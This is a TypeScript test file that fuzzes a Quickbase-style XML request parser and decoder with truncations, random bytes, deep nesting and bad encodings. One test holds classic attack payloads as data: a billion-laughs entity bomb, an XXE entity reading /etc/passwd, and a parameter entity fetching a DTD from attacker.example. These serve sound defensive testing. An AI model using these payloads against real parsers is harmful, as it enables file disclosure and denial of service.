import { describe, expect, it } from 'vitest';
import { parseQdbapi, renderQdbapi } from '../../src/compat/quickbase/xml';
import { decodeXmlBody, MAX_XML_DEPTH, parseXml, XmlParseError } from '../../src/compat/xml';
import { FUZZ_CASES, FUZZ_SEED, mutate, nastyString, random } from './generate';

/**
 * parseQdbapi, the reader of Quickbase's XML requests, under hostile input: whatever arrives, it returns the
 * parameters or throws an XmlParseError (which the adapter answers as errcode 11), in time proportional to the input,
 * never another exception and never an expansion. Pure: no server, just the function.
 */

const VALID = `<?xml version="1.0" encoding="UTF-8"?>
<qdbapi>
   <usertoken>b1234_abcd</usertoken>
   <apptoken>app_token</apptoken>
   <userid>112249.ctdg</userid>
   <usertext>Hello &amp; welcome &#x263A; &lt;team&gt;</usertext>
   <!-- a comment -->
   <udata><![CDATA[x < y & "z"]]></udata>
   <hours/>
</qdbapi>`;

const MARKUP = ['<', '>', '</', '/>', '&', ';', '&amp;', '&#', '&#x', '<!--', '-->', '<![CDATA[', ']]>', '<?', '?>', '<!DOCTYPE', '"', "'", '=', ' ', '\n', 'qdbapi', 'xmlns:a="u"', 'a:', '\u0000', '\uFFFE', '\uD800'];

/** The property: parameters out, or an XmlParseError at a place inside the input; nothing else. */
function parsesOrRefuses(input: string, label: string): void {
  let result: ReturnType<typeof parseQdbapi>;
  try {
    result = parseQdbapi(input);
  } catch (err) {
    expect(err, `${label}: ${String(err)}`).toBeInstanceOf(XmlParseError);
    expect((err as XmlParseError).offset, label).toBeGreaterThanOrEqual(0);
    expect((err as XmlParseError).offset, label).toBeLessThanOrEqual(input.length);
    return;
  }
  expect(Array.isArray(result), label).toBe(true);
  for (const p of result) {
    expect(p.name, label).toMatch(/^[A-Za-z_][A-Za-z0-9._:-]*$/);
    expect(typeof p.value, label).toBe('string');
  }
}

const refuses = (input: string) => expect(() => parseQdbapi(input)).toThrow(XmlParseError);

const timed = <T>(work: () => T): { value: T | undefined; ms: number } => {
  const started = performance.now();
  let value: T | undefined;
  try {
    value = work();
  } catch {
    value = undefined;
  }
  return { value, ms: performance.now() - started };
};

describe('parseQdbapi under hostile input', () => {
  it('reads the valid document', () => {
    expect(parseQdbapi(VALID)).toEqual([
      { name: 'usertoken', value: 'b1234_abcd' },
      { name: 'apptoken', value: 'app_token' },
      { name: 'userid', value: '112249.ctdg' },
      { name: 'usertext', value: 'Hello & welcome \u263A <team>' },
      { name: 'udata', value: 'x < y & "z"' },
      { name: 'hours', value: '' },
    ]);
  });

  it('refuses every truncation of a valid document', () => {
    for (let i = 0; i < VALID.length - 1; i++) {
      const cut = VALID.slice(0, i);
      // Whitespace after the root is allowed, so only cuts that lose part of </qdbapi> must be refused.
      if (i >= VALID.lastIndexOf('</qdbapi>') + '</qdbapi>'.length) continue;
      expect(() => parseQdbapi(cut), `cut at ${i}`).toThrow(XmlParseError);
    }
  });

  it('parses or refuses random edits of a valid document', () => {
    const r = random(FUZZ_SEED);
    for (let i = 0; i < (FUZZ_CASES || 3000); i++) parsesOrRefuses(mutate(r, VALID, MARKUP), `seed ${FUZZ_SEED} case ${i}`);
  });

  it('parses or refuses garbled text and random bytes read in any of its encodings', () => {
    const r = random(FUZZ_SEED + 1);
    for (let i = 0; i < (FUZZ_CASES || 2000); i++) {
      const bytes = r.bytes(r.int(0, 200));
      const text = r.chance(0.5) ? bytes.toString('latin1') : bytes.toString('utf8');
      parsesOrRefuses(r.chance(0.5) ? text : `<qdbapi>${text}</qdbapi>`, `seed ${FUZZ_SEED + 1} case ${i}`);
      parsesOrRefuses(`<qdbapi><usertext>${nastyString(r, 40)}</usertext></qdbapi>`, `seed ${FUZZ_SEED + 1} case ${i} (text)`);
    }
  });

  it('refuses document type declarations, so no entity is ever defined or expanded (billion laughs, XXE)', () => {
    const laughs = `<?xml version="1.0"?>
<!DOCTYPE qdbapi [
  <!ENTITY lol "lol">
  ${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n  ')}
]>
<qdbapi><usertext>&lol9;</usertext></qdbapi>`;
    const xxe = '<?xml version="1.0"?><!DOCTYPE qdbapi [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><qdbapi><usertext>&xxe;</usertext></qdbapi>';
    const parameterEntity = '<!DOCTYPE qdbapi [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><qdbapi/>';
    for (const input of [laughs, xxe, parameterEntity, '<!DOCTYPE qdbapi><qdbapi/>', '<qdbapi><!DOCTYPE qdbapi></qdbapi>', '<qdbapi/><!DOCTYPE qdbapi>']) {
      const { ms } = timed(() => refuses(input));
      refuses(input);
      expect(ms).toBeLessThan(1000);
    }
  });

  it('refuses entities it does not know and character references XML does not allow', () => {
    for (const ref of ['&lol;', '&xxe;', '&nbsp;', '&#0;', '&#x0;', '&#xD800;', '&#xFFFE;', '&#x110000;', '&#99999999999999999999;', '&#x;', '&#;', '&;', '&amp', '& amp;']) {
      refuses(`<qdbapi><usertext>${ref}</usertext></qdbapi>`);
    }
  });

  it('refuses processing instructions, a second root, text or CDATA directly inside <qdbapi>, and another root', () => {
    for (const input of [
      '<?xml-stylesheet href="x"?><qdbapi/>',
      '<qdbapi/><qdbapi/>',
      '<qdbapi>text</qdbapi>',
      '<qdbapi><![CDATA[x]]></qdbapi>',
      '<root/>',
      '',
      '   ',
      '<qdbapi><a>1</b></qdbapi>',
      '<qdbapi a="1" a="2"/>',
      '<qdbapi><p:a>1</p:a></qdbapi>',
    ]) {
      refuses(input);
    }
  });

  it('refuses a parameter nested inside another, at any depth', () => {
    for (const depth of [2, 10, 100, 1000]) refuses(`<qdbapi>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</qdbapi>`);
  });

  // Once a known bug: the parser descends into elements by recursion, and without a depth limit a 1 MB body of nested
  // elements overflowed the stack (a RangeError, answered as errcode 1 or a SOAP 'internal' fault).
  it('refuses XML nested 100,000 deep as invalid XML, not with a stack overflow', () => {
    const depth = 100_000;
    expect(() => parseQdbapi(`<qdbapi>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</qdbapi>`)).toThrow(XmlParseError);
  });

  it(`reads elements nested ${MAX_XML_DEPTH} levels deep, and refuses one level more`, () => {
    const nested = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
    expect(parseXml(nested(MAX_XML_DEPTH)).localName).toBe('a');
    expect(() => parseXml(nested(MAX_XML_DEPTH + 1))).toThrow(/nest at most/);
  });

  it('reads huge documents in time proportional to their size', () => {
    const cases = [
      `<qdbapi><usertext>${'x'.repeat(1_000_000)}</usertext></qdbapi>`,
      `<qdbapi>${'<udata>1</udata>'.repeat(60_000)}</qdbapi>`,
      `<qdbapi><usertext>${'&amp;'.repeat(200_000)}</usertext></qdbapi>`,
      `<qdbapi><usertext>${'<!---->'.repeat(140_000)}</usertext></qdbapi>`,
      `<qdbapi ${Array.from({ length: 40_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
      `<qdbapi>${' '.repeat(1_000_000)}</qdbapi>`,
      `<qdbapi><usertext>${'<'.repeat(1_000_000)}`,
      `<qdbapi><usertext>${'&'.repeat(1_000_000)}</usertext></qdbapi>`,
    ];
    for (const input of cases) {
      parsesOrRefuses(input, `${input.slice(0, 30)}… (${input.length} characters)`);
      // Seconds, not milliseconds: the machine is shared; anything quadratic in a megabyte would take minutes.
      expect(timed(() => parseQdbapi(input)).ms, input.slice(0, 30)).toBeLessThan(5000);
    }
  });

  it('gives back exactly what renderQdbapi wrote, for any text', () => {
    const r = random(FUZZ_SEED + 2);
    for (let i = 0; i < (FUZZ_CASES || 500); i++) {
      const elements: [string, string][] = Array.from({ length: r.int(0, 6) }, (_, j) => [`p${j}`, nastyString(r, 30)]);
      // What XML can carry: characters it cannot become U+FFFD when written, line ends become \n when read.
      const expected = elements.map(([name, value]) => ({
        name,
        value: value.replace(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu, '\uFFFD').replace(/\r\n?/g, '\n'),
      }));
      expect(parseQdbapi(renderQdbapi(elements)), `seed ${FUZZ_SEED + 2} case ${i}`).toEqual(expected);
    }
  });
});

describe('decodeXmlBody under wrong encodings', () => {
  const body = (declaration: string, text = 'é') => Buffer.concat([Buffer.from(`<?xml version="1.0" encoding="${declaration}"?><qdbapi><usertext>`), Buffer.from(text, 'latin1'), Buffer.from('</usertext></qdbapi>')]);

  it('refuses encodings it does not read, whether the Content-Type or the declaration names them', () => {
    for (const charset of ['utf-16', 'UTF-16LE', 'utf-32', 'ebcdic-cp-us', 'shift_jis', 'x-unknown', 'utf-7']) {
      expect(() => decodeXmlBody(body(charset)), charset).toThrow(XmlParseError);
      expect(() => decodeXmlBody(Buffer.from('<qdbapi/>'), charset), charset).toThrow(XmlParseError);
    }
  });

  it('refuses bytes that are not valid in the encoding chosen, and reads Latin-1 that says so', () => {
    expect(() => decodeXmlBody(body('UTF-8'))).toThrow(XmlParseError);
    expect(() => decodeXmlBody(Buffer.from([0x3c, 0x71, 0xff, 0xfe, 0x3e]))).toThrow(XmlParseError);
    expect(() => decodeXmlBody(Buffer.from([0xff, 0xfe, 0x3c, 0x00, 0x71, 0x00]))).toThrow(XmlParseError);
    expect(parseQdbapi(decodeXmlBody(body('ISO-8859-1')))).toEqual([{ name: 'usertext', value: 'é' }]);
  });

  it('decodes or refuses random bytes under any charset, and what it decodes parses or is refused', () => {
    const r = random(FUZZ_SEED + 3);
    for (let i = 0; i < (FUZZ_CASES || 1000); i++) {
      const bytes = Buffer.concat([r.chance(0.3) ? Buffer.from([0xef, 0xbb, 0xbf]) : Buffer.alloc(0), Buffer.from(mutate(r, VALID, MARKUP), 'utf8'), r.bytes(r.int(0, 8))]);
      const charset = r.chance(0.5) ? undefined : r.pick(['utf-8', 'latin1', 'windows-1252', 'utf-16', 'bogus', ' UTF-8 ', '']);
      let text: string;
      try {
        text = decodeXmlBody(bytes, charset);
      } catch (err) {
        expect(err, `seed ${FUZZ_SEED + 3} case ${i}`).toBeInstanceOf(XmlParseError);
        continue;
      }
      parsesOrRefuses(text, `seed ${FUZZ_SEED + 3} case ${i}`);
    }
  });
});
